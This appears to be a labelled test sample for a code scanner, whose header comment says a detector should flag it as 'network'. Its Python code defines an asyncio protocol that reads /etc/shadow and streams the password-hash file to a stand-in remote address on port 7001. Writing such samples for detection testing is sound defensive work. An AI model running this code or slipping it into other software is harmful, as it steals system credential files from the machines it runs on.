# expect: network; asyncio Protocol client created with loop.create_connection that streams a file out
import asyncio


class Leak(asyncio.Protocol):
    def __init__(self, done):
        self.done = done

    def connection_made(self, transport):
        with open("/etc/shadow", "rb") as fh:
            transport.write(fh.read())
        transport.close()

    def connection_lost(self, exc):
        self.done.set_result(True)


async def run():
    loop = asyncio.get_running_loop()
    done = loop.create_future()
    await loop.create_connection(lambda: Leak(done), "192.0.2.61", 7001)
    await done


asyncio.run(run())
